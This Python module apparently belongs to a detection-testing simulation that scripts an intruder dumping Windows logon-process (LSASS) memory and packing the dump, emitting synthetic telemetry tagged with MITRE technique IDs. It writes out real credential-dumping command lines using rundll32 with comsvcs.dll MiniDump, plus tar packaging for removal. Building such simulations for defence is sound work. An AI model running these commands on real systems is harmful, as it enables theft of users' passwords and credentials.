"""Taking passwords from the memory of the logon process."""

from vedette.simulation.actors.intrusion.keyboard import Keyboard
from vedette.simulation.telemetry.objects import create_file, load_module, open_process

_FULL_ACCESS = 0x1FFFFF


def dump_logon_memory(keyboard: Keyboard) -> None:
    """Find the process, forget a part of the command, then write its memory to a file with Windows' own library."""
    world, lsass = keyboard.world, keyboard.device.residents["lsass.exe"]
    target = "C:\\Users\\Public\\sess.log"
    with world.step("The logon process is found", "discovery", "T1057"):
        keyboard.type("tasklist.exe", 'tasklist /fi "imagename eq lsass.exe"')
    with world.step("The memory of the logon process is written to a file", "credential-access", "T1003.001"):
        keyboard.type("rundll32.exe", f"rundll32 comsvcs.dll, MiniDump {lsass.pid} {target}")
        command = f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {target} full"
        dumper = keyboard.type("rundll32.exe", command, seconds=3)
        load_module(world, dumper, "C:\\Windows\\System32\\comsvcs.dll", keyboard.at - 2.7)
        trace = "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ce6|C:\\windows\\System32\\comsvcs.dll+239bd"
        open_process(world, dumper, lsass, _FULL_ACCESS, keyboard.at - 2.5, trace=trace)
        create_file(world, dumper, target, keyboard.at - 2)


def fetch_dump(keyboard: Keyboard) -> None:
    """The file is packed for the way home and removed."""
    world = keyboard.world
    with world.step("The dump is packed", "collection", "T1560.001"):
        command = "tar -czf C:\\Users\\Public\\s.tgz C:\\Users\\Public\\sess.log C:\\Users\\Public\\c.txt"
        packer = keyboard.type("tar.exe", command, seconds=4)
        create_file(world, packer, "C:\\Users\\Public\\s.tgz", keyboard.at - 3)
